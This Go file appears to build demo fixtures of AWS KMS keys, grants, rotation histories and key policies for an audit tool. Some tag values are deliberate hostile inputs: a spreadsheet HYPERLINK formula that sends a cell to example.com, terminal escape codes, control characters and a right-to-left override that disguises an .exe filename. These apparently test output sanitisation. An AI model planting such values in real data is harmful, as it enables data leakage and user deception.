package scenario

import (
	"fmt"
	"strings"
	"time"
)

// Ids that tie keys to the clusters and stores of demo_hsm.go.
const (
	paymentsCluster = "cluster-p4ym3ntsfip"
	dataCluster     = "cluster-d4ta7nonfip"
	hsm1Cluster     = "cluster-oldhsm2east"
	paymentsStore   = "cks-4a1f6c0de2b7d9f35"
	dataStore       = "cks-91c7e5aa02f4b6d18"
	externalStore   = "cks-7d3b0f84c6e1a9527"
	brokenStore     = "cks-2e8d5b17f9a0c4363"
	multiRegionKey  = "mrk-3f0c2b7a9d1e4c58b6a2f4d07e9c1b35"
)

func demoKeys(o *Organization) {
	made := day(2025, 2, 11).Add(10*time.Hour + 5*time.Minute)
	id := func(account, region, name string) string { return uuid("demo", account, region, name) }
	add := func(account, region, name string, k Key) *Key {
		r := o.In(account, region)
		if k.ID == "" {
			k.ID = id(account, region, name)
		}
		if k.Created.IsZero() {
			k.Created = made
		}
		if !k.Gone && k.State != "PendingImport" {
			k.Aliases = append(k.Aliases, "example/"+name)
		}
		r.Keys = append(r.Keys, k)
		return &r.Keys[len(r.Keys)-1]
	}
	for _, a := range o.Accounts {
		for _, r := range a.Regions {
			r.Aliases = append(r.Aliases, Alias{Name: "aws/lambda"}, Alias{Name: "aws/rds"})
		}
	}

	// Payments, Ireland: a bit of everything.
	pay := o.In(DemoPayments, ireland)
	legacy := add(DemoPayments, ireland, "legacy-reports", Key{Description: "Never rotated: made before the key policy of 2024", Created: day(2022, 8, 3)})
	legacy.Tags = []Tag{{"owner", "finance-systems"}, {"note", `=HYPERLINK("https://example.com/?x="&A1,"click")`}}
	slow := add(DemoPayments, ireland, "card-archive", Key{Description: "Rotates every 730 days", Created: day(2023, 11, 20)})
	slow.Rotation = Rotation{Enabled: true, Days: 730, Next: day(2027, 11, 18), Done: []RotationDone{{day(2025, 11, 19), "AUTOMATIC"}}}
	slow.Tags = []Tag{{"owner", "payments"}, {"terminal", "\x1b[31mred\x1b[0m\x07 bell"}, {"control", "a\tb\nc\u0085d\u0001"}}
	add(DemoPayments, ireland, "merchant-onboarding", Key{State: "PendingDeletion", Deletion: day(2026, 10, 19).Add(9 * time.Hour), Tags: []Tag{{"owner", "payments"}},
		History: []KeyChange{{At: made, Rotation: true}, {At: day(2026, 9, 19).Add(9 * time.Hour), State: "PendingDeletion"}}})
	add(DemoPayments, ireland, "chargeback-exports", Key{State: "Disabled", Rotation: yearly(made), Tags: []Tag{{"bidi", "invoice\u202etxt.exe"}}})
	imported := add(DemoPayments, ireland, "bank-link", Key{Origin: "EXTERNAL", ValidTo: day(2026, 12, 31), Description: "Imported from the bank's HSM"})
	imported.Rotation.Done = []RotationDone{{day(2026, 7, 14).Add(13 * time.Hour), "ON_DEMAND"}}
	add(DemoPayments, ireland, "bank-link-next", Key{Origin: "EXTERNAL", State: "PendingImport", Description: "Waits for material"})
	add(DemoPayments, ireland, "pin-translation", Key{Origin: "AWS_CLOUDHSM", Store: paymentsStore, Cluster: paymentsCluster, Description: "In the payments cluster"})
	add(DemoPayments, ireland, "receipt-signing", Key{Spec: "RSA_4096", Usage: "SIGN_VERIFY", Tags: []Tag{{"emoji", "🔐🧾 ok"}}})
	add(DemoPayments, ireland, "webhook-mac", Key{Spec: "HMAC_256"})
	add(DemoPayments, ireland, "firmware-signing-pq", Key{Spec: "ML_DSA_65", Created: day(2026, 3, 2)})
	add(DemoPayments, ireland, "ledger-global", Key{ID: multiRegionKey, MultiRegion: "PRIMARY", Replicas: []string{virginia}, Rotation: yearly(made)})
	add(DemoPayments, virginia, "ledger-global", Key{ID: multiRegionKey, MultiRegion: "REPLICA", PrimaryRegion: ireland, Replicas: []string{virginia}, Rotation: yearly(made), Created: made.Add(40 * time.Minute)})
	add(DemoPayments, ireland, "payout-batch", Key{Created: Now.Add(-90 * time.Minute), Undiscovered: true, Rotation: Rotation{Enabled: true, Next: Now.AddDate(1, 0, 0)}})
	add(DemoPayments, ireland, "old-card-vault", Key{Gone: true, Created: day(2021, 4, 6), History: []KeyChange{{At: day(2021, 4, 6), Rotation: true},
		{At: day(2026, 7, 3).Add(11 * time.Hour), State: "PendingDeletion"}, {At: day(2026, 8, 2).Add(11*time.Hour + 4*time.Minute), Deleted: true}}})
	// Rotation was off for three days in August.
	ledger := pay.Key("example/ledger-db")
	ledger.History = []KeyChange{{At: ledger.Created, Rotation: true}, {At: day(2026, 8, 4).Add(14*time.Hour + 22*time.Minute)}, {At: day(2026, 8, 7).Add(9*time.Hour + 3*time.Minute), Rotation: true}}
	ledger.Rotation.Done = append(ledger.Rotation.Done, RotationDone{day(2026, 9, 1).Add(8 * time.Hour), "ON_DEMAND"})
	vault := pay.Key("example/card-vault-db")
	vault.Grants = []Grant{
		{ID: hexID(64, "grant", "rds"), Grantee: "arn:aws:sts::" + DemoPayments + ":assumed-role/rds-storage/RDS-eu-west-1", Name: "rds-card-vault", Created: day(2024, 6, 1),
			Operations: []string{"Decrypt", "Encrypt", "GenerateDataKey", "CreateGrant", "DescribeKey"}, Context: map[string]string{"aws:rds:db-id": "db-CARDVAULT01"}},
		{ID: hexID(64, "grant", "etl"), Grantee: "arn:aws:iam::" + DemoData + ":role/lake-ingest", Retiring: "arn:aws:iam::" + DemoPayments + ":role/key-admin", Created: day(2026, 7, 22),
			Operations: []string{"Decrypt", "DescribeKey"}},
	}

	// Payments, Virginia: in the week without a recorder rotation was switched off and on again, and nobody saw it.
	secrets := o.In(DemoPayments, virginia).Key("example/payment-secrets")
	secrets.History = []KeyChange{{At: secrets.Created, Rotation: true}, {At: day(2026, 8, 12).Add(10 * time.Hour)}, {At: day(2026, 8, 15).Add(16 * time.Hour), Rotation: true}}
	add(DemoPayments, virginia, "hsm1-wrapping", Key{Origin: "AWS_CLOUDHSM", Store: externalStoreFor(virginia), Cluster: hsm1Cluster})
	add(DemoPayments, virginia, "sovereign-ledger", Key{Origin: "EXTERNAL_KEY_STORE", Store: externalStore, XKS: "hyok-ledger-01", Description: "Held in the external key manager"})
	add(DemoPayments, virginia, "api-signing", Key{Spec: "ECC_NIST_P256"})

	// Data platform: keys on a cluster that is not in FIPS mode, one that everybody may use, one whose store cannot be reached.
	add(DemoData, ireland, "tokenization", Key{Origin: "AWS_CLOUDHSM", Store: dataStore, Cluster: dataCluster})
	add(DemoData, ireland, "open-datasets", Key{Rotation: yearly(made), Policy: publicPolicy(DemoData), Tags: []Tag{{"owner", "data-platform"}, {"long", strings.Repeat("long value ", 24)[:256]}}})
	add(DemoData, ireland, "partner-exchange", Key{Description: strings.Repeat("This key encrypts files that are exchanged with partners. ", 6)[:300], Rotation: yearly(made)})
	add(DemoData, ireland, "notebook-signing", Key{Spec: "ECC_NIST_EDWARDS25519", Created: day(2026, 1, 15)})
	add(DemoData, virginia, "external-lake", Key{Origin: "EXTERNAL_KEY_STORE", Store: brokenStore, XKS: "lake-master-7", State: "Unavailable"})
	add(DemoData, virginia, "experiments", Key{})
	o.In(DemoData, virginia).Denied = []string{"kms:GetKeyRotationStatus"}

	// Log archive: the role is kept from one key by its policy.
	locked := o.In(DemoLogArchive, ireland).Key("example/log-archive")
	locked.Policy = lockedPolicy(DemoLogArchive)
	locked.Denied = []string{"GetKeyPolicy", "ListGrants", "ListResourceTags", "ListKeyRotations"}
	add(DemoManagement, ireland, "scp-signing", Key{Spec: "RSA_2048", Usage: "SIGN_VERIFY"})
	add(DemoManagement, virginia, "cost-reports", Key{Rotation: Rotation{Enabled: true, Days: 180, Next: day(2027, 1, 20), Done: []RotationDone{{day(2026, 1, 25), "AUTOMATIC"}, {day(2026, 7, 24), "AUTOMATIC"}}}})
}

// externalStoreFor is the key store on the old cluster; it stands in one region only.
func externalStoreFor(region string) string { return "cks-" + hexID(17, "hsm1-store", region) }

// publicPolicy has a Principal "*" without a condition.
func publicPolicy(account string) string {
	return fmt.Sprintf(`{"Version":"2012-10-17","Id":"open-datasets","Statement":[{"Sid":"Enable IAM User Permissions","Effect":"Allow","Principal":{"AWS":"arn:aws:iam::%s:root"},"Action":"kms:*","Resource":"*"},{"Sid":"Readers","Effect":"Allow","Principal":"*","Action":["kms:Decrypt","kms:DescribeKey"],"Resource":"*"}]}`, account)
}

// lockedPolicy does not delegate to the account: only the key's administrators get in.
func lockedPolicy(account string) string {
	return fmt.Sprintf(`{"Version":"2012-10-17","Statement":[{"Sid":"Administrators only","Effect":"Allow","Principal":{"AWS":"arn:aws:iam::%s:role/log-archive-key-admin"},"Action":"kms:*","Resource":"*"}]}`, account)
}
